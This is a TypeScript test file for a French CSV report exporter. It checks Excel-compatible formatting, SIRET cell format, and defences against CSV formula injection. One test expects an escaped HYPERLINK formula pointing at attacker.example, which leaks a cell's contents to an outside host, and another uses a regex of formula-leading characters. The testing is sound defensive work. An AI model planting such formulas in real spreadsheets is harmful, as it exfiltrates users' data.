import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { parseSiret } from '../../src/domain/siret.ts';
import { csvCell } from '../../src/reporting/report/report-csv.ts';
import { hostileRun } from '../report/hostile.ts';
import { expect, test } from '../report/report-fixtures.ts';

const rowsOf = (csv: string): string[][] => parse(csv, { bom: true, delimiter: ';' });

test('a French Excel opens the rows: byte order mark, semicolons, CRLF, every cell in quotes', async ({
  report,
}) => {
  const csv = await (await report()).read('report.csv');
  expect(csv.startsWith('\ufeff"SIRET";"Structure";"Raccordement";')).toBe(true);
  expect(csv.endsWith('"\r\n')).toBe(true);
  expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/u);
  for (const line of csv.slice(1).trimEnd().split('\r\n')) expect(line).toMatch(/^".*"$/u);
});

test('the rows read back, failures first, a row for each SIRET', async ({ report }) => {
  const [head, ...rows] = rowsOf(await (await report()).read('report.csv'));
  expect(head).toHaveLength(15);
  expect(rows).toHaveLength(12);
  expect(rows.map((row) => row[9] !== '').lastIndexOf(true)).toBe(2);
  expect(rows[0]!.slice(1, 10)).toEqual([
    'Commune de Saint-Étienne-du-Grès',
    'créé',
    'Pldiffusion9',
    '',
    'échec',
    '',
    '',
    '19',
    'STRUCTURE_NOT_OFFERED',
  ]);
});

test('a SIRET is its 14 digits and nothing else, so that a lookup finds it', async ({ report }) => {
  const [, ...rows] = rowsOf(await (await report()).read('report.csv'));
  for (const [cell = ''] of rows) {
    expect(cell).toMatch(/^\d{14}$/u);
    expect(parseSiret(cell, 'warned')).toMatchObject({ siret: cell });
  }
  expect(rows.map(([cell]) => cell)).toContain('05550061100028');
});

test('no cell of a hostile portal begins a formula', async ({ report }) => {
  const rows = rowsOf(await (await report({ run: hostileRun })).read('report.csv'));
  expect(rows).toHaveLength(13);
  for (const cell of rows.flat())
    expect(cell).not.toMatch(/^\s*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/u);
  expect(rows.flat()).toContain('\'=HYPERLINK("https://attacker.example/?"&A1;"see")');
});

test('whatever a text is, its cell reads back as one cell that is no formula', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), fc.string(), (one, other) => {
      const rows = rowsOf(`${csvCell(one)};${csvCell(`=${other}`)}\r\n`);
      expect(rows).toHaveLength(1);
      expect(rows[0]).toHaveLength(2);
      for (const cell of rows[0]!) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/u);
    }),
  );
});
